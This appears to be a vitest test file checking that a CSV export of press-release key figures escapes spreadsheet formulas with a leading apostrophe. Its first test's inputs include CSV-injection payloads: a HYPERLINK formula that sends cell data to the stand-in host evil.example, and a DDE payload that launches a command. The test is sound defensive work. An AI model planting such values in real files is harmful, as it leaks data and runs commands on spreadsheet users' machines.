/** D6: labels that spreadsheets would run as formulas are written as text in api/key-figures.csv. */
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { keyFiguresCsv, type KeyFigureRow } from '~/lib/outputs/api';

const row = (overrides: Partial<KeyFigureRow>): KeyFigureRow => ({
  url: 'https://press.example/nl/2025/x/',
  lang: 'nl',
  translationKey: 'x',
  date: '2025-03-04T10:00:00+01:00',
  company: 'noordwind-energie',
  id: 'f1',
  value: 11,
  unit: 'count',
  qualifier: 'exactly',
  label: 'huishoudens',
  baseline: null,
  period: null,
  source: null,
  evidence: null,
  target: null,
  ...overrides,
});

describe('keyFiguresCsv', () => {
  it('writes the review’s formulas with a leading apostrophe, so spreadsheets show them as text', () => {
    const csv = keyFiguresCsv([
      row({
        label: '=HYPERLINK("http://evil.example/?"&A1,"klik")',
        baseline: '+SUM(1,1)',
        period: '-2+3',
        source: '@SUM(1)',
      }),
      row({ id: 'f2', value: 12, label: '\t=1+1 tab-led', source: "=cmd|' /C calc'!A0" }),
    ]);
    const [, first, second] = parse(csv.replace(/^\ufeff/, '')) as string[][];
    expect(first!.slice(9, 13)).toEqual([
      `'=HYPERLINK("http://evil.example/?"&A1,"klik")`,
      "'+SUM(1,1)",
      "'-2+3",
      "'@SUM(1)",
    ]);
    expect(second!.slice(9, 13)).toEqual(["'\t=1+1 tab-led", '', '', "'=cmd|' /C calc'!A0"]);
  });

  it('keeps numbers numbers, negative ones included', () => {
    const csv = keyFiguresCsv([row({ value: -5 }), row({ id: 'f2', value: 1.5 })]);
    expect(csv).toContain(',f1,-5,count,');
    expect(csv).toContain(',f2,1.5,count,');
  });
});
